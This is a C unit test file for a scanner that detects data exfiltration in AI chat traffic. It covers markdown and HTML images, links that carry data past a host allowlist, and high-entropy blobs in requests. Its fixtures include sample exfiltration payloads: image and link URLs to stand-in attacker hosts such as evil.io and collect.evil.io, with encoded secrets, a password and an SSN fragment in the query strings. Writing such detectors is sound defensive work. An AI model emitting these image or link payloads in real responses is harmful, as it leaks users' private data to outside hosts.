// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * exfil.c: markdown/HTML images and data-carrying links in responses
 * against a host allowlist; high-entropy blobs in requests, attachments
 * skipped; findings sorted and never overlapping.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "exfil.h"

static struct scan_result res;
static const char *const allow[] = { "example.com", ".cdn.example.net", NULL };
static const struct exfil_opts opts = { .allow_hosts = allow };

static int teardown(void **state)
{
	(void)state;
	scan_result_free(&res);
	return 0;
}

static int scan(const char *text, enum exfil_direction dir, const struct exfil_opts *o)
{
	scan_result_reset(&res);
	return exfil_scan(text, strlen(text), dir, o, &res);
}

static void test_allowlist(void **state)
{
	(void)state;
	assert_true(exfil_host_allowed("example.com", 11, allow));
	assert_true(exfil_host_allowed("img.EXAMPLE.com", 15, allow));
	assert_true(exfil_host_allowed("a.cdn.example.net", 17, allow));
	assert_true(exfil_host_allowed("example.com.", 12, allow));
	assert_false(exfil_host_allowed("badexample.com", 14, allow));
	assert_false(exfil_host_allowed("example.com.evil.io", 19, allow));
	assert_false(exfil_host_allowed("example.com", 11, NULL));
}

static void test_markdown_image(void **state)
{
	const char *text = "Here you go! ![chart](https://evil.example.io/pixel.png?d=U2Vzc2lvbiBrZXk6IHNrLWFiYzEyMw) Enjoy.";
	const char *plain = "Logo: ![logo](https://static.other.org/logo.png)";
	const char *ok = "![diagram](https://img.example.com/x.png?id=8f3a9c2b1d4e5f60718293a4b5c6d7e8)";

	(void)state;
	assert_int_equal(scan(text, EXFIL_RESPONSE, &opts), 1);
	assert_string_equal(res.v[0].type, EXFIL_TYPE);
	assert_string_equal(res.v[0].detail, "markdown-image");
	assert_int_equal(res.v[0].confidence, SCAN_CONF_HIGH);
	assert_int_equal(res.v[0].start, strstr(text, "![") - text);
	assert_int_equal(res.v[0].end, strstr(text, " Enjoy") - text);

	/* an image from an unknown host still loads by itself: MEDIUM */
	assert_int_equal(scan(plain, EXFIL_RESPONSE, &opts), 1);
	assert_int_equal(res.v[0].confidence, SCAN_CONF_MEDIUM);

	assert_int_equal(scan(ok, EXFIL_RESPONSE, &opts), 0);
	/* requests are not checked for images */
	assert_int_equal(scan(text, EXFIL_REQUEST, &opts), 0);
}

static void test_links_and_refs(void **state)
{
	(void)state;
	/* a plain link needs a click and carries nothing */
	assert_int_equal(scan("See [the docs](https://docs.other.org/guide/install).", EXFIL_RESPONSE, &opts), 0);
	/* a link with an encoded payload */
	assert_int_equal(scan("[click here](https://collect.evil.io/c?u=alice%40corp.com%20pw%3Dhunter2%20ssn%3D123)",
			      EXFIL_RESPONSE, &opts), 1);
	assert_string_equal(res.v[0].detail, "link");
	/* a reference definition used for an image */
	assert_int_equal(scan("![a][1]\n\n[1]: https://t.evil.io/a.gif?q=c2VjcmV0LXRva2VuLXZhbHVlLTEyMzQ1Ng\n",
			      EXFIL_RESPONSE, &opts), 1);
	assert_string_equal(res.v[0].detail, "markdown-image");
	/* relative and data: images are not fetched from a host */
	assert_int_equal(scan("![x](/static/a.png) ![y](data:image/png;base64,iVBORw0KGgo=)",
			      EXFIL_RESPONSE, &opts), 0);
}

static void test_html_img(void **state)
{
	(void)state;
	assert_int_equal(scan("<p>ok</p><img width=1 src=\"https://evil.io/t.gif?c=ZXhmaWx0cmF0ZWQtZGF0YQ\">",
			      EXFIL_RESPONSE, &opts), 1);
	assert_string_equal(res.v[0].detail, "html-image");
	assert_int_equal(scan("<img src='https://a.cdn.example.net/x.png'>", EXFIL_RESPONSE, &opts), 0);
	assert_int_equal(scan("<imgur>not an image</imgur>", EXFIL_RESPONSE, &opts), 0);
}

static void test_blobs(void **state)
{
	size_t n = 2048, i;
	char *text = malloc(n + 128);
	unsigned int x = 7;
	static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

	(void)state;
	assert_non_null(text);
	strcpy(text, "summarise: ");
	for (i = 11; i < n; i++) {
		x = x * 1103515245u + 12345u;
		text[i] = b64[(x >> 16) % 64];
	}
	strcpy(text + n, " thanks");
	assert_int_equal(scan(text, EXFIL_REQUEST, NULL), 1);
	assert_string_equal(res.v[0].detail, "high-entropy-blob");
	assert_int_equal(res.v[0].start, 11);
	assert_int_equal(res.v[0].end, n);
	assert_int_equal(res.v[0].confidence, SCAN_CONF_HIGH);

	/* smaller than the threshold */
	{
		struct exfil_opts big = { .blob_min_bytes = 4096 };

		assert_int_equal(scan(text, EXFIL_REQUEST, &big), 0);
	}
	/* an image attachment is the API's, not a leak, unless asked */
	memcpy(text, "data:image/png;base64,", 22);
	assert_int_equal(scan(text, EXFIL_REQUEST, NULL), 0);
	{
		struct exfil_opts all = { .flag_data_uris = 1 };

		assert_int_equal(scan(text, EXFIL_REQUEST, &all), 1);
	}
	/* low entropy: a long run of one pattern */
	for (i = 0; i < n; i++)
		text[i] = "abab"[i % 4];
	text[n] = 0;
	assert_int_equal(scan(text, EXFIL_REQUEST, NULL), 0);
	free(text);
}

static void test_hex_blob(void **state)
{
	char text[700];
	size_t i;
	unsigned int x = 3;

	(void)state;
	for (i = 0; i < 600; i++) {
		x = x * 1103515245u + 12345u;
		text[i] = "0123456789abcdef"[(x >> 16) % 16];
	}
	text[600] = 0;
	assert_int_equal(scan(text, EXFIL_REQUEST, NULL), 1);
	assert_int_equal(res.v[0].confidence, SCAN_CONF_MEDIUM);
}

/*
 * The blob search reads 64 bytes at a time (AVX-512BW: one register, else
 * 16-byte pieces), the last piece as the 64 bytes that end the text.  A
 * random base64 run of 256 bytes (reported) or 255 (not) at every offset
 * from a block edge, with prose or nothing after it, is found exactly.
 */
static void test_blob_block_edges(void **state)
{
	static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char text[512];
	uint32_t x = 2463534242u;
	size_t k, i, len, tail;

	(void)state;
	for (k = 0; k < 130; k++) {
		for (len = 255; len <= 256; len++) {
			for (tail = 0; tail <= 3; tail += 3) {
				memset(text, ' ', k);
				for (i = 0; i + 4 < k; i += 5)
					memcpy(text + i, "word", 4);
				for (i = 0; i < len; i++) {
					x ^= x << 13;
					x ^= x >> 17;
					x ^= x << 5;
					text[k + i] = b64[x % 64];
				}
				memcpy(text + k + len, " ok", tail);
				text[k + len + tail] = 0;
				assert_int_equal(scan(text, EXFIL_REQUEST, NULL), len >= 256);
				if (len < 256)
					continue;
				assert_string_equal(res.v[0].detail, "high-entropy-blob");
				assert_int_equal(res.v[0].start, k);
				assert_int_equal(res.v[0].end, k + len);
			}
		}
	}
}

static void test_sorted_no_overlap(void **state)
{
	const char *text = "<img src=\"https://x.evil.io/a.png\"> then ![b](https://y.evil.io/b.png) and "
			   "![c](https://z.evil.io/c.png)";
	size_t i;

	(void)state;
	assert_int_equal(scan(text, EXFIL_RESPONSE, NULL), 3);
	for (i = 1; i < res.n; i++)
		assert_true(res.v[i].start >= res.v[i - 1].end);
	assert_true(exfil_scan(NULL, 3, EXFIL_RESPONSE, NULL, &res) < 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_allowlist),
		cmocka_unit_test(test_markdown_image),
		cmocka_unit_test(test_links_and_refs),
		cmocka_unit_test(test_html_img),
		cmocka_unit_test(test_blobs),
		cmocka_unit_test(test_hex_blob),
		cmocka_unit_test(test_sorted_no_overlap),
		cmocka_unit_test(test_blob_block_edges),
	};

	return cmocka_run_group_tests(tests, NULL, teardown);
}
